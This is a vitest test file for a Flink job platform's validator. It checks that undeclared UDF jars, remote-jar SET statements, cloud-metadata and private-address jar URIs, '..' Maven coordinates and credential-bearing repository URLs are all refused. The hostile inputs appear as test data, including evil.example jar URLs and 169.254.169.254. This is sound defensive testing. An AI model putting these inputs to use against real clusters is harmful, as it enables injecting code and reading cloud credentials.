import { existsSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { MAX_JAR_BYTES, resolveUdfJars } from '../lib/flink/jars.js';
import { cacheDir } from '../lib/flink/launch.js';
import { loadRepo } from '../lib/repo/load.js';
import { sqlJarPaths } from '../lib/resolve/artifacts.js';
import { Fixture, locate } from './support/fixture.js';
import { fixtureRunningOwnCode } from './support/udfJar.js';
import { renderAt } from './render/support.js';

/**
 * Doors through which a job could run a jar it never declared, and declarations that would point the
 * cluster somewhere else than the platform meant (found in review of issue 15 item 4).
 */

function addUdfJob(fx: Fixture, sql: string, extra = '', mode = ''): string {
  fx.write(
    'jobs/acquisition/udf/job.yaml',
    `type: sql\nflinkVersion: "1.20"\nupgradeMode: stateless\n${mode}${extra}udfJars:\n  - uri: hdfs://nn/udf/geo-1.0.jar\n`,
  );
  fx.write('jobs/acquisition/udf/owners.yaml', 'owners: ["@wang.lei"]\n');
  fx.write(
    'jobs/acquisition/udf/main.sql',
    `CREATE TEMPORARY TABLE loud (title STRING) WITH ('connector' = 'print');\n${sql}INSERT INTO loud VALUES ('x');\n`,
  );
  return 'acquisition/udf';
}

describe('review: jars that reach the classpath without udfJars', () => {
  let fx: Fixture;
  beforeEach(() => {
    fx = fixtureRunningOwnCode('acquisition/udf');
  });
  afterEach(() => fx.dispose());
  const errors = (job: string, rule: string) => fx.validate([job]).filter((d) => d.rule === rule);

  it('a `--` or `/*` inside the quoted path is part of the path, not a comment that hides it', () => {
    expect(sqlJarPaths("ADD JAR 'hdfs://nn/evil--1.jar'").map((p) => p.path)).toEqual(['hdfs://nn/evil--1.jar']);
    expect(sqlJarPaths("CREATE FUNCTION f AS 'a--b' USING JAR 'hdfs://nn/x/*y.jar'").map((p) => p.path)).toEqual([
      'hdfs://nn/x/*y.jar',
    ]);
    // A comment after a string still hides what follows it.
    expect(sqlJarPaths("SELECT 'x' -- USING JAR 'hdfs://nn/c.jar'")).toEqual([]);
    const job = addUdfJob(fx, "ADD JAR 'hdfs://nn/udf/evil--1.jar';\n");
    const ds = errors(job, 'sql/jar');
    expect(ds.map((d) => [d.line, d.column, d.message])).toEqual([
      [2, 9, "ADD JAR 'hdfs://nn/udf/evil--1.jar' is not declared in the job's udfJars"],
    ]);
  });

  // Flink's PipelineOptions.JARS (`pipeline.jars`: "jars to package with the job jars to be sent to the
  // cluster") and PipelineOptions.CLASSPATHS (`pipeline.classpaths`: "URLs that are added to the classpath of
  // each user code classloader"), flink-core/src/main/java/org/apache/flink/configuration/PipelineOptions.java.
  it.each([
    ["SET 'pipeline.jars' = 'file:///tmp/evil.jar'", 'pipeline.jars'],
    ["set 'pipeline.classpaths' = 'file:///tmp/evil.jar'", 'pipeline.classpaths'],
    ["SET pipeline.classpaths = 'file:///tmp/evil.jar'", 'pipeline.classpaths'],
    ["SET /* c */ 'user.artifacts.artifact-list' = 'https://evil.example/x.jar'", 'user.artifacts.artifact-list'],
  ])('`%s` in the SQL is refused at the key', (stmt, key) => {
    const job = addUdfJob(fx, `${stmt};\n`);
    const ds = errors(job, 'sql/jar');
    const file = `jobs/${job}/main.sql`;
    const at = locate(fx.read(file), key);
    expect(ds.map((d) => [d.file, d.line, d.column])).toEqual([
      [file, at.line, at.column - (stmt.includes(`'${key}'`) ? 1 : 0)],
    ]);
    expect(ds[0]!.message).toContain(`'${key}'`);
    expect(ds[0]!.hint).toContain('udfJars');
  });

  it('a SET of another key is not a jar door', () => {
    const job = addUdfJob(fx, "SET 'pipeline.name' = 'x';\n");
    expect(errors(job, 'sql/jar')).toEqual([]);
  });

  // ArtifactFetchOptions (flink-clients/src/main/java/org/apache/flink/client/cli/ArtifactFetchOptions.java):
  // `user.artifacts.artifact-list` is fetched onto the classpath of an application cluster, and
  // `user.artifacts.base-dir` moves where the runner's --jar files are fetched to.
  it.each(['pipeline.jars', 'pipeline.classpaths', 'user.artifacts.artifact-list', 'user.artifacts.base-dir'])(
    'flinkConf `%s` in job.yaml or team.yaml is refused at the key',
    (key) => {
      const job = addUdfJob(fx, '', `flinkConf:\n  ${key}: https://evil.example/x.jar\n`);
      const file = `jobs/${job}/job.yaml`;
      const ds = errors(job, 'job/jar');
      const at = locate(fx.read(file), 'https://evil.example');
      expect(ds.map((d) => [d.file, d.line, d.column])).toEqual([[file, at.line, at.column]]);
      expect(ds[0]!.message).toContain(`flinkConf "${key}"`);
      fx.write(file, fx.read(file).replace(`flinkConf:\n  ${key}: https://evil.example/x.jar\n`, ''));
      fx.edit('jobs/acquisition/team.yaml', 'defaults:\n', `defaults:\n  flinkConf:\n    ${key}: /tmp/x\n`);
      const team = errors(job, 'job/jar');
      expect(team.map((d) => d.file)).toContain('jobs/acquisition/team.yaml');
    },
  );
});

describe('review: where the cluster is told to fetch jars from', () => {
  let fx: Fixture;
  beforeEach(() => {
    fx = fixtureRunningOwnCode('acquisition/udf');
  });
  afterEach(() => fx.dispose());
  const errors = (job: string, rule: string) => fx.validate([job]).filter((d) => d.rule === rule);

  // A session job's udfJars are fetched by the runner inside the shared session cluster, where the
  // operator's jarURI checks (DefaultValidator.validateJarURI: scheme allowlist, no local hosts) never see
  // them; the same checks apply, or a job reads the cloud's metadata service from the shared JobManager.
  it.each([
    ['https://169.254.169.254/latest/meta-data/x.jar', 'restricted address'],
    ['https://10.0.0.7/udf.jar', 'restricted address'],
    ['http://nexus.rent.example/udf.jar', "scheme 'http' is not in the operator's allowlist"],
  ])('a session job’s udfJar %s is refused like the operator refuses a jarURI', (uri, problem) => {
    addUdfJob(fx, '', '', 'mode: session\nsession: shared-1-20\n');
    const file = 'jobs/acquisition/udf/job.yaml';
    fx.write(file, fx.read(file).replace('hdfs://nn/udf/geo-1.0.jar', uri));
    const ds = errors('acquisition/udf', 'job/session-jar-uri');
    const at = locate(fx.read(file), uri);
    expect(ds.map((d) => [d.file, d.line, d.column])).toContainEqual([file, at.line, at.column]);
    expect(ds.find((d) => d.line === at.line)!.message).toContain(problem);
  });

  it('a session job’s udfJar on an allowed https host, or on a Flink filesystem, is accepted', () => {
    addUdfJob(fx, '', '', 'mode: session\nsession: shared-1-20\n');
    expect(errors('acquisition/udf', 'job/session-jar-uri')).toEqual([]);
    const file = 'jobs/acquisition/udf/job.yaml';
    fx.write(file, fx.read(file).replace('hdfs://nn/udf/geo-1.0.jar', 'https://nexus.rent.example/udf.jar'));
    expect(errors('acquisition/udf', 'job/session-jar-uri')).toEqual([]);
  });

  // Maven's own coordinate parts never are `.` or `..`; with them, <url>/<group>/<artifact>/<version>/ leaves
  // the repository (the cluster's download) and the flinkops cache (preview's download).
  it.each(['com.rent:..:..', 'com.rent:geo:../..', 'com.rent:.:1.0', 'com.rent:geo:1.0:..'])(
    'the coordinate %s is refused by the schema at the value',
    (coordinate) => {
      const job = addUdfJob(fx, '');
      const file = `jobs/${job}/job.yaml`;
      fx.write(file, fx.read(file).replace('uri: hdfs://nn/udf/geo-1.0.jar', `maven: "${coordinate}"`));
      const ds = fx.validate([job]).filter((d) => d.severity === 'error' && d.file === file);
      expect(ds.length).toBeGreaterThan(0);
      expect(ds[0]!.line).toBe(locate(fx.read(file), coordinate).line);
    },
  );

  it('a Maven repository URL with credentials in it is refused (they would be rendered into every jarURI)', () => {
    const file = 'platform/envs/test.yaml';
    fx.edit(
      file,
      'url: https://nexus.rent.example/repository/maven-releases',
      'url: https://ci:s3cret@nexus.rent.example/repository/maven-releases',
    );
    const ds = fx.validate(['acquisition/listing-score']).filter((d) => d.file === file && d.severity === 'error');
    expect(ds.map((d) => d.line)).toEqual([locate(fx.read(file), 'ci:s3cret').line]);
  });
});

describe('review: a UDF jar download is bounded (preview, validate --deep)', () => {
  let fx: Fixture;
  let server: Server;
  beforeEach(async () => {
    fx = new Fixture();
    // A repository that claims a jar bigger than any UDF jar, and one that streams without a length.
    server = createServer((req, res) => {
      if (req.url?.endsWith('huge-1.0.jar')) {
        res.writeHead(200, { 'content-length': String(MAX_JAR_BYTES + 1) });
        res.end();
      } else res.writeHead(404).end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const base = `http://127.0.0.1:${(server.address() as { port: number }).port}/repo`;
    fx.edit('platform/envs/test.yaml', 'url: https://nexus.rent.example/repository/maven-releases', `url: ${base}`);
    rmSync(path.join(cacheDir(), 'maven', 'com', 'rent', 'udfhuge'), { recursive: true, force: true });
  });
  afterEach(async () => {
    await new Promise((resolve) => server.close(resolve));
    fx.dispose();
  });

  it('a jar larger than MAX_JAR_BYTES is refused at its coordinate, and nothing is cached', async () => {
    addUdfJob(fx, '');
    const file = 'jobs/acquisition/udf/job.yaml';
    fx.write(file, fx.read(file).replace('uri: hdfs://nn/udf/geo-1.0.jar', 'maven: com.rent.udfhuge:huge:1.0'));
    const { repo } = loadRepo(fx.root);
    const job = repo.jobs.find((j) => j.id === 'acquisition/udf')!;
    const r = await resolveUdfJars(job, 'test', repo.platform.envs.get('test')!.spec);
    expect(r.jars).toEqual([]);
    expect(r.diagnostics.map((d) => [d.rule, d.file, d.line])).toEqual([
      ['job/udf-jar-unresolved', file, locate(fx.read(file), 'com.rent.udfhuge').line],
    ]);
    expect(r.diagnostics[0]!.message).toContain(`larger than ${MAX_JAR_BYTES} bytes`);
    expect(existsSync(path.join(cacheDir(), 'maven', 'com/rent/udfhuge/huge/1.0/huge-1.0.jar'))).toBe(false);
  });
});

describe('review: a udfJars uri names a file', () => {
  let fx: Fixture;
  beforeEach(() => {
    fx = new Fixture();
  });
  afterEach(() => fx.dispose());

  // Render passes the fetched file (the URI's last segment) to the runner as --jar, and the session runner
  // names its download after it (UdfJars.local): a URI ending in `/`, or with no path, names no file.
  it.each(['https://nexus.rent.example/', 'https://nexus.rent.example', 'hdfs://nn/udf/'])(
    'udfJars uri %s is refused by the schema at the value',
    (uri) => {
      const job = addUdfJob(fx, '');
      const file = `jobs/${job}/job.yaml`;
      fx.write(file, fx.read(file).replace('hdfs://nn/udf/geo-1.0.jar', uri));
      const ds = fx.validate([job]).filter((d) => d.severity === 'error' && d.file === file);
      expect(ds.map((d) => d.line)).toContain(locate(fx.read(file), uri).line);
    },
  );
});

describe('review: two udfJars with one file name', () => {
  let fx: Fixture;
  beforeEach(() => {
    fx = new Fixture();
  });
  afterEach(() => fx.dispose());

  // Flink fetches user.artifacts.artifact-list into one folder (user.artifacts.base-dir/namespace/cluster-id,
  // ArtifactFetchManager) by each URI's file name: two jars named alike leave one on the classpath.
  it('is refused at the second entry, naming the first', () => {
    const job = addUdfJob(fx, '');
    const file = `jobs/${job}/job.yaml`;
    fx.write(
      file,
      `${fx.read(file)}  - uri: https://nexus.rent.example/other/geo-1.0.jar\n  - maven: com.rent:geo:1.0\n`,
    );
    const ds = fx.validate([job]).filter((d) => d.rule === 'job/jar');
    expect(ds.map((d) => [d.line, d.message])).toEqual([
      [
        locate(fx.read(file), 'https://nexus.rent.example/other').line,
        'udfJars[1] and udfJars[0] are both fetched as geo-1.0.jar into one folder: one of them would be lost',
      ],
      [
        locate(fx.read(file), 'com.rent:geo:1.0').line,
        'udfJars[2] and udfJars[0] are both fetched as geo-1.0.jar into one folder: one of them would be lost',
      ],
    ]);
  });
});

describe('review: a Maven repository only this machine can read', () => {
  let fx: Fixture;
  beforeEach(() => {
    fx = fixtureRunningOwnCode('acquisition/udf');
    fx.edit(
      'platform/envs/prod.yaml',
      'url: https://nexus.rent.example/repository/maven-releases',
      'url: file:///var/maven/releases',
    );
  });
  afterEach(() => fx.dispose());

  it('render refuses a file:// repository for a jar job and for UDF jars (the pod would read its own disk)', () => {
    const jarJob = renderAt(fx.root, 'prod', ['acquisition/listing-score']);
    expect(jarJob.diagnostics.map((d) => [d.rule, d.file])).toEqual([
      ['render/maven', 'jobs/acquisition/listing-score/job.yaml'],
    ]);
    expect(jarJob.diagnostics[0]!.message).toContain('file:// Maven repository, which the cluster cannot read');
    expect(jarJob.objects.filter((o) => o.kind === 'FlinkDeployment')).toEqual([]);
    const udf = addUdfJob(fx, '');
    fx.edit(`jobs/${udf}/job.yaml`, 'udfJars:\n', 'udfJars:\n  - maven: com.rent.udf:shout-udfs:1.0.0\n');
    expect(renderAt(fx.root, 'prod', [udf]).diagnostics.map((d) => d.rule)).toEqual(['render/maven']);
  });
});
